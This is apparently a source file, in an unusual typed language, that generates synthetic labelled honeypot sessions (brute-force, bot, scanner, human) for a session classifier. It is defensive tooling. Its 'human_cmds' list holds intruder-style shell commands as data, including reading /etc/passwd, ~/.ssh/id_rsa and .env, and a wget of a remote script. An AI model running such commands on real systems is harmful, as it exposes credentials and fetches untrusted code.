-- ===== src/Classifier/Generators.antt =====
-- analyzer/evaluate.py: the generators of labelled sessions. What they draw is an argument, and a draw of
-- `uniform` is a number of microseconds. User names, which the classifier does not read, are left out.
use honeypot_m1spro.Base.{
  ℕ, zero, suc, ◌+◌, String, Bool, true, false, none, some, List, [], ◌∷◌, if◌then◌else◌, ◌<>◌,
  decimal,
}
use honeypot_m1spro.Classifier.{SessionEvent}

abbrev pub human_cmds : List String
human_cmds =
    "whoami" ∷ "id" ∷ "ls -la" ∷ "pwd" ∷ "uname -a" ∷ "cat /etc/passwd" ∷ "ps aux" ∷ "netstat -an"
    ∷ "cd /var/www/html" ∷ "cat .env" ∷ "history" ∷ "wget http://x/y.sh" ∷ "df -h"
    ∷ "cat ~/.ssh/id_rsa" ∷ "sudo su" ∷ "crontab -l" ∷ []

abbrev pub plain_event : ℕ → String → SessionEvent
plain_event t kind = record {
  timestamp = t;
  event_type = kind;
  command = none;
  password = none;
  known_scanner = false;
}

abbrev pub attempt : ℕ → String → SessionEvent
attempt t password = record (plain_event t "auth_attempt") { password = some password }

-- `f"pw{i}-{rng.randint(0, 99999)}"`.
abbrev pub drawn_password : ℕ → ℕ → String
drawn_password i r = "pw" <> decimal i <> "-" <> decimal r

-- The loop of `_gen_bruteforcer`, for what is left of `n`.
unfoldable pub brute_loop : (ℕ → ℕ) → (ℕ → ℕ) → ℕ → ℕ → ℕ → List SessionEvent
brute_loop number gap zero i t = []
brute_loop number gap (suc n) i t =
    attempt t (drawn_password i (number i)) ∷ brute_loop number gap n (suc i) (t + gap i)

-- `_gen_bruteforcer`.
unfoldable pub gen_bruteforcer : ℕ → (ℕ → ℕ) → (ℕ → ℕ) → List SessionEvent
gen_bruteforcer n number gap = brute_loop number gap n 0 0

-- The loop of `_gen_bot`, for the passwords and the gaps that are drawn, up to its disconnection.
unfoldable pub bot_loop : List (String × ℕ) → ℕ → List SessionEvent
bot_loop [] t = plain_event t "disconnect" ∷ []
bot_loop ((password, gap) ∷ rest) t = attempt t password ∷ bot_loop rest (t + gap)

-- `_gen_bot`.
unfoldable pub gen_bot : ℕ → List (String × ℕ) → List SessionEvent
gen_bot gap tries = plain_event 0 "connect" ∷ bot_loop tries gap

-- `_gen_scanner`: whether an attempt was drawn, and the gaps.
unfoldable pub gen_scanner : Bool → ℕ → ℕ → List SessionEvent
gen_scanner tries gap gap' =
    record (plain_event 0 "connect") { known_scanner = true }
    ∷ (if tries
        then attempt gap "" ∷ plain_event (gap + gap') "disconnect" ∷ []
        else plain_event gap "disconnect" ∷ [])

-- The loop of `_gen_humain`, for the sample and the gaps that are drawn.
unfoldable pub human_loop : List (String × ℕ) → ℕ → List SessionEvent
human_loop [] t = []
human_loop ((cmd, gap) ∷ rest) t =
    record (plain_event t "command") { command = some cmd } ∷ human_loop rest (t + gap)

-- `_gen_humain`.
unfoldable pub gen_humain : ℕ → List (String × ℕ) → List SessionEvent
gen_humain gap typed = plain_event 0 "auth_success" ∷ human_loop typed gap
